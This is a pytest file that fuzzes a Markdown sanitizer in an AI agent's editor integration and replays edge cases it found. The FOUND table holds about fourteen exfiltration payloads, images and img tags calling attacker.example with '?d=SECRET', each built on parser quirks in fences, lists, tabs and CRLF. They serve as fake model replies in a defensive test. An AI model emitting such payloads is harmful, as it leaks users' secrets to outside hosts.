"""Fuzzing the editor's text guard (`acp/inert.py`) with Markdown built from pieces (fences of
``` and ~~~ of every length, closed or not, indented code, HTML blocks, reference definitions,
lists and block quotes around fences, entity-encoded, escaped and protocol-relative addresses,
LF, CRLF, lone-CR and mixed line endings, tabs before fences and after list markers), whole,
cut into stream deltas and, for fenced cases, cut in two at every character: what a CommonMark
renderer (markdown-it-py) would load from a host off the list must be nothing. Seeded and
bounded in time; `python tests/acp/markdown_fuzz.py SECONDS FIRST_SEED` runs it for longer.
The cases it found are replayed through `loopwright acp` below."""

from __future__ import annotations

import time
from pathlib import Path

import pytest
from acp import text_block
from editor_client import EditorClient, acp_agent, text_of
from markdown_fuzz import (
    ALLOWED_HOST,
    document,
    leaks,
    leaks_at_every_cut,
    pieces,
    remote_loads,
)

from loopwright.acp.inert import MarkdownGuard
from loopwright.testing import FakeModelServer, Reply

SECONDS = 3.0


def test_no_image_off_the_list_survives_the_fuzz() -> None:
    found, seed, deadline = [], 0, time.monotonic() + SECONDS
    while time.monotonic() < deadline:
        case = leaks(seed)
        if case is not None:
            found.append((seed, *case))
        seed += 1
    assert seed > 300, "too few cases in the time given"
    assert found == []


def test_text_with_no_image_or_tag_is_passed_as_written() -> None:
    """As written, but for CRLF and a lone CR, which come as LF (one line ending to a renderer)."""
    guard = MarkdownGuard((ALLOWED_HOST,))
    changed, seed, deadline = [], 0, time.monotonic() + SECONDS / 3
    while time.monotonic() < deadline:
        text = document(pieces(seed), seed).replace("!", "").replace("<", "")
        expected = text.replace("\r\n", "\n").replace("\r", "\n")
        stream = guard.stream()
        streamed = stream.feed(text) + stream.end()
        by_character = "".join(stream.feed(char) for char in text) + stream.end()
        if expected != guard.text(text) or expected != streamed or expected != by_character:
            changed.append((seed, text))
        seed += 1
    assert changed == []


def test_no_cut_of_a_fenced_case_into_two_deltas_leaks() -> None:
    """Fences, CRs and LFs split at every character: between a CR and its LF, inside a fence's
    run, inside a tag a blank line splits."""
    found, cases, seed, deadline = [], 0, 0, time.monotonic() + SECONDS
    while time.monotonic() < deadline:
        text = document(pieces(seed), seed)
        if ("```" in text or "~~~" in text) and "\r" in text and len(text) < 400:
            cases += 1
            case = leaks_at_every_cut(text)
            if case is not None:
                found.append((seed, text, *case))
        seed += 1
    assert cases > 5, "too few cases in the time given"
    assert found == []


def test_a_crlf_split_between_its_cr_and_lf_is_one_line_ending() -> None:
    text = "```\r\ncode\r\n```\r\n<pre>\r\n<img\r\n\r\nsrc='https://x.example/a'>\r\n\r\nend\r\n"
    whole = MarkdownGuard((ALLOWED_HOST,)).text(text)
    assert whole == "```\ncode\n```\n<pre>\n(image from x.example not loaded)\n\nend\n"
    for cut in range(1, len(text)):
        stream = MarkdownGuard((ALLOWED_HOST,)).stream()
        deltas = [text[:cut], "", text[cut:]]  # an empty delta between changes nothing
        assert "".join(stream.feed(delta) for delta in deltas) + stream.end() == whole, cut


def test_line_endings_sent_a_character_at_a_time_are_each_one() -> None:
    """CR, LF as deltas of their own: the LF that follows a CR is its; the LF after that, and a
    CR after a CR, each end a line of their own."""
    text = "a\r\n\nb\r\rc\n\r\n"
    stream = MarkdownGuard((ALLOWED_HOST,)).stream()
    streamed = "".join(stream.feed(char) for char in text) + stream.end()
    assert streamed == MarkdownGuard((ALLOWED_HOST,)).text(text) == "a\n\nb\n\nc\n\n"


# what the fuzz found, each as the editor got it from `loopwright acp`
FOUND = {
    # in a tag a backslash escapes nothing: `\\host` is `//host` to a browser
    "a backslashed host in a tag": '<img src="\\\\attacker.example/b?d=SECRET">\n',
    # the empty item after a block quote continues its paragraph for loopwright, so the fence
    # holds the lines after it; for markdown-it the item holds the fence, which ends with it,
    # and the tag begun on a line of "code" ends on the next
    "a tag over two lines of code": "> a\n- \n  ```x\n<img\nsrc='https://attacker.example/t?d=SECRET'>\n",
    # the list item (and so its fence) ends at the unindented line for loopwright, not for
    # markdown-it, for which the block quote ended the list: the tag begun in code runs on
    "a tag over the end of a list item": (
        "2) x\n> quoted\n    ````\n\n   <img\nsrc='https://attacker.example/t?d=SECRET'>"),
    # an image over two lines of "code"; its opening went with the first, so what replaces the
    # rest must end it, or the opening, the placeholder and the link's `](…)` make an image
    "an image over two lines of code in a link": (
        "> a\n- \n  ```x\n[![a\nb](https://attacker.example/n?d=SECRET)](https://link.example)\n"),
    # an image not ended on its line of code is replaced as it stands (its address might end
    # where the guard does not look for it: after a CR, here), not only once it ends
    "an image ended on the next line after CRLF": (
        "```\r\ncode\r\n```\r\n![a](https://attacker.example/c?d=SECRET\r\n)\r\n"),
    # an image not ended in code is none: the tag inside it is one
    # the fence's closing line ended in CRLF, so it stayed open: the `<pre>` after it opened no
    # HTML block, where a tag runs on past a blank line, and the tag's rest past one passed
    "a tag over a blank line after a fence closed by CRLF": (
        "```\r\ncode\r\n```\r\n<pre>\r\n<img\r\n\r\nsrc='https://attacker.example/p?d=SECRET'>\r\n"),
    # a tab takes a line to the next multiple of four columns: `\t```` (four in) closes no fence
    # for markdown-it, so the next ``` closes it and the HTML block after it is one; it closed
    # the fence for loopwright, and that ``` opened one, where the tag's rest passed as code
    "a fence closed by a line indented with a tab": (
        "```\ncode\n\t```\n```\n<pre>\n<img\n\nsrc='https://attacker.example/t?d=SECRET'>\n"),
    # `  \t```` in a list item whose text is two in is a fence two in for markdown-it and none
    # for loopwright: the ``` after it closes markdown-it's and opened loopwright's
    "a fence opened by a line indented with a tab in a list item": (
        "- a\n  \t```\n  ```\n  <pre>\n  <img\n\n  src='https://attacker.example/u?d=SECRET'>\n"),
    # `- \tfoo` is an item whose text is four in for markdown-it (the tab goes to column 4), so
    # `  ```` is a fence at the margin, which the next ``` closes; loopwright read no tab, made
    # the item two in and the fence its, ended both at that ``` and opened a fence there
    "a fence after a list item with a tab after its marker": (
        "- \tfoo\n  ```\n```\n<pre>\n<img\n\nsrc='https://attacker.example/v?d=SECRET'>\n"),
    # an item begins with one blank line at most: after `-` and a blank line the item is empty
    # and over for markdown-it, so `  ```` is a fence at the margin; loopwright kept the item
    "a fence after an empty list item and a blank line": (
        "-\n\n  ```\n```\n<pre>\n<img\n\nsrc='https://attacker.example/w?d=SECRET'>\n"),
    # an HTML block at the margin ends a list item (it starts a block: no lazy continuation of
    # the item's text), so `   ```` after it is a fence at the margin, closed by the next ```;
    # loopwright kept the item, made it the item's fence, ended it at that ``` and opened one
    # there, where the tag's rest past a blank line in the `<pre>` block passed as code
    "a fence after an HTML block that ended a list item": (
        "* star\n<table> a\n\t\n   ```\n```\n <pre>\n<img\n\n"
        "src='https://attacker.example/x?d=SECRET'>\n"),
    # the guard kept only the innermost list item: `   ~~~` is a fence in the outer item (text
    # two in) for markdown-it, which the `<pre>` at the margin ends with its item; read
    # against the inner item (text five in) it was a fence at the margin that nothing closed,
    # so the tag over a blank line in the `<pre>` block after it passed as code
    "a fence in the outer of two nested list items": (
        "- a\n\n  2. two\n]\n   ~~~\n\n<pre>\n<img\n\n"
        "src='https://attacker.example/y?d=SECRET'>"),
    # a heading ends the paragraph before it, so `2. two` after `#` opens an item for
    # markdown-it, whose fence the `<pre>` at the margin ends; the guard read the paragraph
    # as going on, the fence as at the margin, and the tag in the `<pre>` block as code
    "a fence in a numbered item after a heading": (
        "a\n#\n2. two\n   `````\n<pre>\n<img\n\nsrc='https://attacker.example/z?d=SECRET'>\n"),
    "a tag in an unended image in code": (
        "> a\n- \n  ```x\n![r](https://attacker.example/i\n[ <img\n"
        "src='https://attacker.example/e?d=SECRET'>\n"),
}


@pytest.mark.parametrize("name", sorted(FOUND))
async def test_what_the_fuzz_found_is_not_sent(tmp_path: Path, name: str) -> None:
    reply = FOUND[name]
    assert any("SECRET" in address for address in remote_loads(reply))  # as the model wrote it
    client = EditorClient()
    with FakeModelServer([Reply(reply, chunk_size=3)]) as server:
        async with acp_agent(client, server, tmp_path) as conn:
            session = (await conn.new_session(cwd=str(tmp_path), mcp_servers=[])).session_id
            await conn.prompt(session_id=session, prompt=[text_block("show it")])
    shown = text_of(client)
    assert remote_loads(shown) == []
